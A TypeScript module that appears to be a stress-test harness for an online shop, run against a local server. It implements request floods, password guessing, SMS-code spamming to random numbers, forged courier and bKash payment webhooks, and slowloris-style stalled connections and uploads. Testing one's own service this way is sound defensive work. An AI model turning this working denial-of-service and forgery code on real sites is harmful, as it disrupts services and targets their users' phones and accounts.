import { randomBytes } from 'node:crypto';
import { Agent } from 'node:http';
import { connect, type Socket } from 'node:net';
import { setTimeout as pause } from 'node:timers/promises';
import { Semaphore } from 'async-mutex';
import { ask, askJson, type Question } from './ask';

const ADDRESS = '127.0.0.1';
/** Sockets that one attack holds open; the server lets go of them and new ones come. */
const HELD = 150;
/** Maximum number of sockets ended by the server that stay half open, for as long as it lets them. */
const HALF_OPEN = 300;
/** Requests of one attack at once: an attacker is a program too, and has only so much memory. */
const MOST_REQUESTS = 200;
const MEGABYTE = 1024 * 1024;

interface Target {
  url: string;
  /** Token of an account that sells. */
  token: string;
}

/** @param note is told how each request came through: its status, or what went wrong */
type Attack = (
  target: Target,
  isOver: () => boolean,
  note: (what: string) => void,
) => Promise<void>;

const letters = (count: number) =>
  randomBytes(count)
    .toString('base64url')
    .replace(/[^a-z]/gi, 'a')
    .toLowerCase()
    .slice(0, count);
const randomId = () => randomBytes(12).toString('hex');
/** A mobile number, anybody's. */
const mobile = () => `0171${String(Math.floor(Math.random() * 1e7)).padStart(7, '0')}`;
/**
 * Returns an order number in the shop's format, of a day and a record that do not exist, and anybody's phone.
 */
const guess = () => ({
  ...{ number: `250101-${randomBytes(3).toString('hex').toUpperCase()}`, phone: mobile() },
});

const JSON_ANSWER = { accept: 'application/json', 'accept-encoding': 'gzip' };
const PAGE = { accept: 'text/html', 'accept-encoding': 'gzip' };
const bearer = ({ token }: Target) => ({ authorization: `Bearer ${token}` });

type Made = [path: string, question?: Omit<Question, 'agent'>];

/** Asks again and again, so many times a second, whatever is answered. */
function repeat(perSecond: number, made: (target: Target) => Made | Promise<Made>): Attack {
  return async (target, isOver, note) => {
    const agent = new Agent({ keepAlive: true, localAddress: ADDRESS, maxSockets: 30 });
    const requests = new Semaphore(MOST_REQUESTS);
    const one = async () => {
      const [path, question] = await made(target);
      return (await ask(target.url + path, { ...question, agent })).status;
    };
    while (!isOver()) {
      const [, leave] = await requests.acquire();
      void one()
        .then((status) => note(String(status)))
        .catch((error: NodeJS.ErrnoException) => note(error.code ?? 'failed'))
        .finally(leave);
      await pause(1000 / perSecond);
    }
    agent.destroy();
    await requests.acquire(MOST_REQUESTS);
  };
}

/** Returns a request that a visitor without an account may send. */
const posted = (path: string, body: object): Made => [
  path,
  { method: 'POST', headers: JSON_ANSWER, body },
];

/** Keeps so many sockets open, each of which has said `words` and says no more. */
function hold(words: (target: Target) => Buffer[]): Attack {
  return async (target, isOver, note) => {
    const { hostname: host, port } = new URL(target.url);
    const open = new Set<Socket>();
    const halfOpen = new Set<Socket>();
    const chunks = words(target);
    const letGo = (socket: Socket) => {
      if (open.delete(socket)) note('let go');
    };
    while (!isOver()) {
      if (open.size < HELD) {
        const place = { host, port: Number(port), localAddress: ADDRESS };
        const socket = connect({ ...place, allowHalfOpen: true });
        open.add(socket);
        socket.on('error', () => undefined);
        // It never says good-bye itself: the server has to let go of it alone.
        socket.once('end', () => {
          letGo(socket);
          halfOpen.add(socket);
          const [oldest] = halfOpen;
          if (halfOpen.size > HALF_OPEN) oldest?.destroy();
        });
        socket.once('close', () => {
          letGo(socket);
          halfOpen.delete(socket);
        });
        socket.resume();
        for (const chunk of chunks) socket.write(chunk);
      }
      await pause(20);
    }
    for (const socket of [...open, ...halfOpen]) socket.destroy();
  };
}

const upload = ({ token }: Target): Buffer[] => [
  Buffer.from(
    `POST /upload HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${token}\r\n` +
      `Content-Type: multipart/form-data; boundary=b\r\nContent-Length: ${14 * MEGABYTE + 100_000}\r\n\r\n` +
      '--b\r\nContent-Disposition: form-data; name="upload_preset"\r\n\r\nproduct\r\n' +
      '--b\r\nContent-Disposition: form-data; name="file"; filename="a.jpg"\r\n\r\n',
  ),
  Buffer.alloc(14 * MEGABYTE, 'x'),
];

let hidden: Promise<string> | undefined;

/** A product that nobody can see. @returns its id */
async function addHidden(target: Target): Promise<string> {
  const headers = { ...bearer(target), accept: 'application/json' };
  const [own] = await askJson<{ image: string }[]>(`${target.url}/products?mine=1&limit=1`, {
    headers,
  });
  const body = {
    ...{ image: own!.image, productName: 'Hidden', brand: 'None', category: 'Health & Beauty' },
    ...{ description: 'Nobody sees it.', price: 10, minQuantity: 1, maxQuantity: 5 },
  };
  const question = { method: 'POST', headers, body };
  return (await askJson<{ insertedId: string }>(`${target.url}/addproduct`, question)).insertedId;
}

/** Everything that one person can do over the network to slow the others, all at once; forgeries too. */
export const ATTACKS: Record<string, Attack> = {
  'parts of words': repeat(15, () => [
    `/search?q=${letters(3 + Math.floor(Math.random() * 9))}`,
    { headers: JSON_ANSWER },
  ]),
  'random products': repeat(15, () => [`/product/${randomId()}`, { headers: PAGE }]),
  'random filters': repeat(15, () => [
    `/products?minPrice=${Math.ceil(Math.random() * 9000)}&q=${letters(2)}`,
    { headers: PAGE },
  ]),
  'page views': repeat(15, () => posted('/pageview', { path: `/${letters(12)}` })),
  'wrong logins': repeat(3, () =>
    posted('/token', { email: 'customer@example.com', password: letters(12) }),
  ),
  'hidden edits': repeat(8, async (target) => [
    `/update/${await (hidden ??= addHidden(target))}`,
    { method: 'PATCH', headers: bearer(target), body: { description: letters(40) } },
  ]),
  'tracking guesses': repeat(5, () => posted('/track', guess())),
  'complaint guesses': repeat(3, () => posted('/api/complaints/find', guess())),
  'codes to phones': repeat(3, () => posted('/api/guest/code', { phone: mobile() })),
  'forged couriers': repeat(15, () =>
    posted(`/api/couriers/webhook/${randomId()}?secret=${letters(20)}`, {
      ...{ event: 'order.delivered', consignment_id: letters(8) },
    }),
  ),
  'forged payments': repeat(15, () =>
    posted('/api/payments/bkash/webhook', {
      ...{ Type: 'Notification', Message: letters(200), Signature: letters(80) },
    }),
  ),
  'payment returns': repeat(5, () => [
    `/api/payments/bkash/callback?paymentID=${letters(20)}&status=success`,
    { headers: PAGE },
  ]),
  'guests’ baskets': repeat(10, () => {
    const body = { productId: randomId(), quantity: 1 };
    return [`/basket/lines/${randomId()}`, { method: 'PUT', headers: JSON_ANSWER, body }];
  }),
  'paper files': repeat(3, (target) => [
    `/api/papers/pdf/${randomId()}?lang=en`,
    { headers: bearer(target) },
  ]),
  upgrades: hold(() => [
    Buffer.from(
      `GET /favicon.ico HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: ${randomBytes(16).toString('base64')}\r\n\r\n`,
    ),
  ]),
  'half headers': hold(() => [Buffer.from('GET / HTTP/1.1\r\nHost: x\r\nX-Half: ')]),
  'silent connections': hold(() => []),
  'stalled bodies': hold(() => [
    Buffer.from(
      'POST /token HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 5000\r\n\r\n{"email"',
    ),
  ]),
  'stalled uploads': hold(upload),
};
